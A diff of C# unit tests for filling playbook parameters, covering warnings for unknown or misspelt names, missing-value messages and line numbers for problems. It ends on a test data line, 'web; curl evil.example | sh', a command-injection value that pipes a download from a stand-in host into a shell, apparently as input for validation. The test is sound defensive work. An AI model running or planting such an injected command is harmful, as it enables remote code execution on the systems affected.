@@ -1,4 +1,5 @@
 using System.Text.Json.Nodes;
+using Polpo.Core.Playbooks;
 using Polpo.Engine.Kernel;
 
 namespace Polpo.Tests.Playbooks;
@@ -110,6 +111,46 @@ public sealed class PlaybookFillingTests : PlaybookSuite
     public void What_nobody_asked_for_is_left_out_with_a_warning() =>
         Fill(Who, Task("\"description\":\"{{who}}\""), new JsonObject { ["who"] = "me", ["whom"] = "you" })
             .Warnings.ShouldBe(["The playbook has no parameter \"whom\"; it is left out. It has who."]);
+
+    [Fact]
+    public void A_value_that_is_left_out_is_not_told_by_the_mission_either()
+    {
+        var filled = Fill(
+            Who,
+            Task("\"description\":\"{{who}}\""),
+            new JsonObject { ["who"] = "me", ["color"] = "red" }
+        );
+        filled.Warnings.ShouldHaveSingleItem().ShouldContain("\"color\"");
+        filled.Mission!["prompt"]!.ToString().ShouldBe("playbook:p (who=me)");
+    }
+
+    [Fact]
+    public void A_misspelt_parameter_is_named_with_the_one_that_it_means()
+    {
+        var filled = Fill(Who, Task("\"description\":\"{{who}}\""), new JsonObject { ["hwo"] = "me" });
+        Told(filled.Problems)
+            .ShouldBe([
+                "parameters.hwo is no parameter of the playbook. Did you mean \"who\"?",
+                "parameters.who is missing. Give it a value: -p who=…",
+            ]);
+        filled.Problems.ShouldAllBe(problem => problem.Line == 0);
+    }
+
+    [Fact]
+    public async Task What_was_given_is_not_blamed_on_the_file()
+    {
+        Fill(Who, Task("\"description\":\"{{who}}\""), null);
+        var refused = await Should.ThrowAsync<RefusedException>(() =>
+            Polpo.Get<PlaybookCommands>().RunAsync(Shop, "p", [], Me, Stop)
+        );
+        refused.Message.ShouldBe("What was given: parameters.who is missing. Give it a value: -p who=…");
+    }
+
+    [Fact]
+    public void What_only_the_installation_can_tell_names_its_line_too() =>
+        Fill(Who, "{\n\"tasks\":[\n{\"title\":\"A\",\n\"model\":\"nowhere/x\"}]}", new JsonObject { ["who"] = "me" })
+            .Problems.Select(problem => (problem.Path, problem.Line))
+            .ShouldContain(("mission.tasks[0].model", 4));
 
     [Theory]
     [InlineData("web; curl evil.example | sh")]
